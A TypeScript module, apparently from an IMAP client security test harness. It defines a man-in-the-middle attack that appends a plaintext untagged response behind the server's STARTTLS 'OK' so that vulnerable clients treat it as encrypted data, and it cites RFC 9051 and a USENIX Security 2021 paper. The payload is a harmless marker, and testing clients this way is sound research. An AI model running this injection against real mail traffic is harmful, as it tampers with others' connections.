import type { Attack } from './attack.ts'
import { intercept } from './interception.ts'

/**
 * Adds an answer of the attacker's behind the server's go-ahead for TLS. A
 * client that keeps it in its buffer would take it for an answer inside TLS.
 *
 * @see RFC 9051 §11.3; "Why TLS is better without STARTTLS", USENIX Security 2021
 */
export const injectResponse: Attack = {
  does: 'add an untagged IMAP response in cleartext behind the server\'s "OK" to STARTTLS, in the same packet',
  start: () =>
    intercept((direction, payload) =>
      direction === 's2c' && /^[^*\s]\S* OK .*TLS.*\r\n$/i.test(payload.toString('latin1'))
        ? Buffer.concat([payload, Buffer.from('* 1337 EXISTS\r\n')])
        : payload,
    ),
}
